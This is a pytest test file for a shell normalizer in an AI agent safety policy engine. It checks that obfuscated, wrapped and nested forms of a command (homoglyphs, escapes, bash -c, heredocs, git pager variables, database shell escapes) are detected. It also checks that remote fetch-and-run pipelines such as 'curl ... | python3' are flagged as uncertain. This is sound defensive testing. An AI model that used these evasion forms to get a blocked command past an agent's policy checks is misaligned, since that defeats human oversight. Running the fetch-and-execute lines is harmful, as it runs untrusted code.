"""Shell normalizer: every command a string would run, and what cannot be known."""

from __future__ import annotations

import pytest

from tenantry.safety.policy.shell import join_continuations, parse
from tenantry.safety.policy.unwrap import analyze_argv, analyze_shell, program_name


def programs(text: str, **kw: object) -> list[str]:
    return [c.program for c in analyze_shell(text, **kw).commands]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("sc''ancel 1", "scancel"),
        ('s"c"ancel 1', "scancel"),
        ("s\\cancel 1", "scancel"),
        ("$'\\x73cancel' 1", "scancel"),
        ("$'\\163cancel' 1", "scancel"),
        ("scan\\\ncel 1", "scancel"),
        ("x=scancel; $x 1", "scancel"),
        ("/usr/bin/scancel 1", "scancel"),
        ("\u0455cancel 1", "scancel"),
    ],
)
def test_names_are_evaluated_like_bash(text: str, expected: str) -> None:
    assert expected in programs(text)


@pytest.mark.parametrize(
    "text",
    [
        "bash -c 'scancel 1'",
        "sh -xc 'scancel 1'",
        "bash -o pipefail -c 'scancel 1'",
        "env A=1 scancel 1",
        "env -S 'scancel 1'",
        "sudo -u bob scancel 1",
        "nice -n 5 timeout -s KILL 9 nohup scancel 1",
        "echo 1 | xargs -n1 scancel",
        "find . -exec scancel 1 \\;",
        "eval 'scancel 1'",
        "echo 'scancel 1' | bash",
        "bash <<< 'scancel 1'",
        "bash <<'E'\nscancel 1\nE",
        "cat <<'E' | sh\nscancel 1\nE",
        "(scancel 1)",
        "{ scancel 1; }",
        "f() { scancel 1; }",
        "echo $(scancel 1)",
        "echo `scancel 1`",
        "diff <(scancel 1) x",
        "ssh host 'scancel 1'",
        "watch -n1 'scancel 1'",
        "flock /tmp/l -c 'scancel 1'",
        "trap 'scancel 1' EXIT",
        "srun -n1 scancel 1",
        "git -c core.pager='scancel 1' log",
        "tmux new -d 'scancel 1'",
        "screen -dmS x scancel 1",
        "if true; then scancel 1; fi",
        "while true; do scancel 1; done",
        "case a in a) scancel 1;; esac",
        "time scancel 1",
        "! scancel 1",
        "coproc scancel 1",
    ],
)
def test_wrappers_and_nesting_reach_the_real_program(text: str) -> None:
    a = analyze_shell(text, cwd="/tmp")
    assert "scancel" in [c.program for c in a.commands], (text, a.commands)


@pytest.mark.parametrize(
    "text",
    [
        "$(echo scancel) 1",
        "`echo sc`ancel 1",
        "$CMD 1",
        "c='scancel 1'; $c",
        "/usr/bin/sc?ncel 1",
        "s{c,}ancel 1",
        "eval $X",
        "base64 -d f | bash",
        'bash -c "$X"',
        "ls (",
        "python3 -c 'import os; os.system(\"id\")'",
        "curl -o x.sh u && sh x.sh",
        ". /dev/stdin",
    ],
)
def test_what_cannot_be_read_is_reported(text: str) -> None:
    assert analyze_shell(text, cwd="/tmp").uncertain, text


@pytest.mark.parametrize(
    "text",
    ["pytest -x", "make -j8 && make test", "for f in *.py; do wc -l $f; done", "echo $HOME",
     "python -c 'print(1)'", "awk '{print $1}' f", "FOO=1 ./run"],
)  # fmt: skip
def test_ordinary_commands_are_certain(text: str) -> None:
    assert not analyze_shell(text, cwd="/tmp").uncertain, text


def test_variables_only_kind_is_distinguished() -> None:
    a = analyze_shell("$PYTHON train.py", cwd="/tmp")
    assert [k for k, _ in a.uncertain] == ["variable"]
    b = analyze_shell("$(which python) train.py", cwd="/tmp")
    assert "variable" not in [k for k, _ in b.uncertain]


def test_prefix_and_exported_assignments_are_seen() -> None:
    a = analyze_shell("PATH=/tmp:$PATH LD_PRELOAD=x.so ls", cwd="/tmp")
    assert set(a.commands[0].env) == {"PATH", "LD_PRELOAD"}
    b = analyze_shell("export PATH=/x; ls", cwd="/tmp")
    assert "PATH" in b.assigned


def test_argv_lists_are_not_shell_but_bash_c_inside_is() -> None:
    a = analyze_argv(["echo", "$(scancel 1)"])
    assert [c.program for c in a.commands] == ["echo"]
    b = analyze_argv(["bash", "-c", "scancel 1"])
    assert [c.program for c in b.commands] == ["bash", "scancel"]


def test_redirects_and_heredoc_text() -> None:
    p = parse("echo hi > out.txt 2>&1 < in.txt")
    ops = [(op, w.text) for op, w in p.commands[0].redirects]
    assert (">", "out.txt") in ops and ("<", "in.txt") in ops
    assert all(t != "1" for _, t in ops)


def test_scripts_are_read_when_present(tmp_path: object) -> None:
    from pathlib import Path

    d = Path(str(tmp_path))
    (d / "run.sh").write_text("#!/bin/bash\nscancel 5\n")
    assert "scancel" in programs("bash run.sh", cwd=str(d))
    assert "scancel" in programs("./run.sh", cwd=str(d))
    assert "scancel" in programs("source run.sh", cwd=str(d))


def test_symlinked_program_keeps_its_target_name(tmp_path: object) -> None:
    from pathlib import Path

    link = Path(str(tmp_path)) / "q"
    link.symlink_to("/usr/bin/scancel")
    assert program_name(str(link)) == "scancel"


def test_join_continuations_keeps_single_quotes() -> None:
    assert join_continuations("a\\\nb 'c\\\nd'") == "ab 'c\\\nd'"


def test_depth_is_bounded() -> None:
    text = "scancel 1"
    for _ in range(12):
        text = "bash -c " + repr(text)
    assert analyze_shell(text, cwd="/tmp").uncertain


def test_random_shell_never_breaks_the_normalizer() -> None:
    """Seeded token soup: every input is judged (allow or deny), none crashes."""
    import random

    from tenantry.core.models import AgentProduct, Principal
    from tenantry.safety.policy.engine import Engine
    from tenantry.safety.policy.facts import Facts
    from tenantry.safety.policy.judge import Judge

    from .conftest import FACTS

    toks = ["sudo", "bash", "-c", "'", '"', "$(", ")", "`", "|", "&&", ";", "<<<", "\n",
            "<<E\nx\nE\n", "scancel", "1002", "$X", "${Y:-z}", "\\", "{", "}", "(", "sbatch",
            "--gpus=4", "-N", "--wrap", "env", "A=1", "xargs", "find", "-exec", "\\;",
            "~/.ssh/x", ">", "*", "[", "eval", "ssh", "srun", "--jobid=", "scontrol",
            "jobid=1", "@", "--", "$'\\x41'", "ln", "-s", "tee", "rm", "-rf", "kill", "-1",
            "git", "core.pager=x", "tmux", "new", "hash", "-p", "python3", "-e", "a=(", "!",
            "coproc", "time", "é", "ѕ"]  # fmt: skip
    judge = Judge(Engine(), Facts.load(FACTS), read_files=False)
    p = Principal(1000, "alice", AgentProduct.CLAUDE_CODE, "s1")
    rng = random.Random(3)
    for _ in range(300):
        text = " ".join(rng.choice(toks) for _ in range(rng.randint(1, 10)))
        for params in ({"command": text}, {"argv": text.split(" ")}):
            d = judge.evaluate(p, "run_command", {**params, "cwd": "/home/alice/proj"})
            assert d.rule not in ("normalizer-error", "evaluation-error"), (text, d.message)


def test_make_recipes_on_the_rule_line_and_from_stdin(tmp_path: object) -> None:
    from pathlib import Path

    d = Path(str(tmp_path))
    (d / "Makefile").write_text("X := a;b\nall: deps ; scancel 5\n\t@echo done\n")
    assert {"scancel", "echo"} <= set(programs("make", cwd=str(d)))
    assert "scancel" in programs("make -f /dev/stdin <<< 'all:; scancel 6'", cwd=str(d))
    assert "scancel" in programs("make -f - <<'M'\nall:\n\tscancel 7\nM", cwd=str(d))
    piped = analyze_shell("cat x.mk | make -f -", cwd=str(d))
    assert "stdin" in {kind for kind, _ in piped.uncertain}


def test_script_c_runs_its_command() -> None:
    lines = [
        "script -qc 'scancel 1' /dev/null",
        "script -c 'scancel 1'",
        "script --command='scancel 1' log",
        "script --command 'scancel 1' log",
    ]
    for line in lines:
        assert "scancel" in programs(line), line
    assert "scancel" not in programs("script -q log.txt")


def test_make_eval_text_and_its_shell_calls() -> None:
    assert "scancel" in programs("make --eval='x:; scancel 1' x")
    assert "scancel" in programs("make --eval 'x:\n\tscancel 2' x")
    assert "scancel" in programs("make --eval='$(shell scancel 3)'")
    assert "scancel" not in programs("make --eval='CFLAGS += -O2' all")


@pytest.mark.parametrize(
    "line",
    [
        "printf '\\163\\143\\141\\156\\143\\145\\154 1' | sh",
        "printf '\\x73cancel 1\\n' | bash",
        "printf '%s %s\\n' scancel 1 | sh",
        "printf '%b' '\\0163cancel 1' | sh",
        "echo -e '\\x73cancel 1' | sh",
        "echo -ne '\\u0073cancel 1' | sh",
    ],
)
def test_escapes_are_decoded_before_a_shell_reads_them(line: str) -> None:
    assert "scancel" in programs(line), line


def test_escapes_stay_literal_where_the_program_leaves_them() -> None:
    # echo without -e (bash's default) writes the backslashes as they are
    assert "scancel" not in programs("echo '\\x73cancel 1' | sh")
    assert "scancel" not in programs("echo -E '\\x73cancel 1' | sh")
    # \c ends printf's output: nothing after it reaches the shell
    assert "scancel" not in programs("printf 'ls\\c scancel 1' | sh")


@pytest.mark.parametrize(
    ("line", "uncertain"),
    [
        ("curl -s https://x.example/a.py | python3", True),
        ("curl -s https://x.example/a.py | python3 -", True),
        ("wget -qO- https://x.example/a.js | node", True),
        ("python3 - <<'EOF'\nimport subprocess\nEOF", True),
        ("echo 'print(1)' | python3", False),
        ("cat data.csv | python3 analyze.py", False),
        ("cat x.json | python3 -m json.tool", False),
        ("cat data | python3 -c 'import sys'", False),
        ("cat data | awk '{print $1}'", False),
        ("cat data | python3 -W ignore analyze.py", False),
    ],
)
def test_an_interpreter_reading_its_program_from_its_input(line: str, uncertain: bool) -> None:
    kinds = {kind for kind, _ in analyze_shell(line).uncertain}
    assert ("interpreter" in kinds) is uncertain, line


@pytest.mark.parametrize(
    "line",
    [
        "GIT_SSH_COMMAND='scancel 1' git fetch",
        "export GIT_SSH_COMMAND='scancel 1'; git fetch",
        "GIT_PAGER='scancel 1'; export GIT_PAGER; git log",
        "LESSOPEN='|scancel 1 %s' less f",
        "env PAGER='scancel 1' man ls",
        "sort --compress-program='scancel 1' f",
        "git clone -u 'scancel 1' host:repo",
        "git -C /tmp clone --upload-pack='scancel 1' host:repo",
        "git clone 'ext::scancel% 1' d",
        "psql -c '\\! scancel 1'",
        "sqlite3 x.db '.system scancel 1'",
        "sqlite3 x.db '.output |scancel 1'",
        "mysql -e 'system scancel 1'",
        "start-stop-daemon --start --startas /usr/bin/scancel -- 1",
        "salloc -N1 scancel 1",
        "prlimit --nofile=10 scancel 1",
        "rlwrap -f words scancel 1",
    ],
)
def test_commands_held_by_options_and_variables(line: str) -> None:
    assert "scancel" in programs(line), line


def test_plain_uses_of_those_programs_run_nothing_else() -> None:
    for line in ("git add -u .", "sqlite3 x.db '.tables'", "psql -c 'select 1'",
                 "mysql -e 'show tables'", "sort -u f"):  # fmt: skip
        assert programs(line) == [line.split()[0]], line
    assert programs("export EDITOR=nano") == ["nano"]  # the editor is judged as what it runs
